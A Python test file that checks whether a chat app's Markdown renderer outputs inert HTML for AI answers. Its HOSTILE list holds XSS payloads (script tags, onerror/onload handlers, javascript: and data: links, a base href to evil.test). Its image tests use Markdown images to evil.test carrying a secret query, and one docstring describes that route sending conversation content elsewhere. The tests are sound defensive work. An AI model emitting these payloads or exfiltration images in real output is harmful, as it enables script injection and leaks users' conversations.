"""Does an answer's Markdown become HTML that can do nothing, whatever stands in it?"""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser
from uuid import UUID, uuid4

import pytest
from hypothesis import given
from hypothesis import strategies as st

from conversations.rendering import LONGEST_MARKDOWN, TAGS, render

MESSAGE = UUID("01a20000-0000-7000-8000-000000000001")


def shown(text: str, *numbers: int) -> str:
    return render(text, message_id=MESSAGE, numbers=numbers)


class Reader(HTMLParser):
    """Notes every tag and attribute that a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def read(html: str) -> Reader:
    reader = Reader()
    reader.feed(html)
    return reader


HOSTILE = [
    "<script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    '<button popovertarget="delete" onclick=alert(1)>x</button>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](//evil.test/)",
    "[x](/sign-out/)",
    '[x](http://a.test" onmouseover="alert(1))',
    "[x][r]\n\n[r]: javascript:alert(1) 'title'",
    "<http://a.test/<script>>",
    "```html onload=alert(1)\n<script>x</script>\n```",
    '```"><script>\nx\n```',
    "<!-- comment --><style>*{}</style><base href=//evil.test>",
    "a\n<svg/onload=alert(1)>\nb",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>\u202c",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_it_lets_nothing_run(text: str) -> None:
    """L18, L19: sanitised last, on the very string that is sent."""
    html = shown(text, 1)
    seen = read(html)
    assert set(seen.tags) <= TAGS
    assert not any(name.startswith("on") or name in {"style", "src", "srcset", "id"} for _, name, _ in seen.attributes)
    assert all(
        value.startswith(("http://", "https://", "mailto:")) for _, name, value in seen.attributes if name == "href"
    )
    assert "<script" not in html


@given(st.text(alphabet=st.sampled_from("<>[]()!*_`~#|&;:/\\\"'=-+.\n abx1"), max_size=300))
def test_any_text_gives_allowed_tags_only(text: str) -> None:
    """L18: a property, not a list of examples."""
    seen = read(shown(text, 1, 2))
    assert set(seen.tags) <= TAGS
    assert {tag for tag, name, _ in seen.attributes if name == "popovertarget"} <= {"button"}


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.test/p.png?q=secret)",
        "![x][ref]\n\n[ref]: http://evil.test/p.png?q=secret",
        "[![x](http://evil.test/p.png)](http://evil.test/)",
        "<img src=http://evil.test/p.png>",
        "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    ],
)
def test_it_fetches_no_image_in_any_form(text: str) -> None:
    """L21: an injected Markdown image, also by reference, sent what was said to another host."""
    html = shown(text)
    assert "<img" not in html
    assert "q=secret" not in re.sub(r'href="[^"]*"', "", html)
    # What is left of it is text; of an address that stood apart not even that.
    assert "image" in html or "&lt;img" in html or html == "<p>![x][ref]</p>\n"


def test_it_says_from_where_an_image_would_have_come() -> None:
    """L21."""
    assert "[image not shown: evil.test]" in shown("![x](https://evil.test/p.png)")


def test_a_link_shows_its_host_and_passes_nothing_on() -> None:
    html = shown("[our bank](https://evil.test/login)")
    assert "(evil.test)" in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_only_numbers_that_are_cited_become_marks() -> None:
    html = shown("It is free [1], see [2] and [12].", 1)
    assert html.count("<button") == 1
    assert f'popovertarget="source-{MESSAGE.hex}-1"' in html
    assert "[2]" in html


def test_code_gets_classes_and_no_style() -> None:
    html = shown("```python\nprint('x')\n```")
    assert '<span class="nb">print</span>' in html
    assert "style=" not in html


def test_a_huge_text_is_shown_plain() -> None:
    """L48: markdown-it is superlinear; beyond 32 kB text is escaped and no more."""
    html = shown("<b>" + "[a](" * LONGEST_MARKDOWN)
    assert html.startswith("<p>&lt;b&gt;[a](")
    assert set(read(html).tags) == {"p"}


@pytest.mark.parametrize("piece", ["[a](", "*a_ ", "[1]", "> ", "[", "`", "|a", "<a ", "![", "~~", "- ", "\\", "&amp;"])
def test_no_text_of_the_allowed_length_takes_long(piece: str) -> None:
    """L48: 80 kB of it took 0.6 to 6 seconds elsewhere."""
    text = (piece * LONGEST_MARKDOWN)[:LONGEST_MARKDOWN]
    began = time.process_time()
    shown(text, 1)
    assert time.process_time() - began < 3.0


def test_a_mark_of_another_message_cannot_be_written() -> None:
    other = uuid4()
    html = shown(f'<button popovertarget="source-{other.hex}-1">x</button>', 1)
    assert "<button" not in html
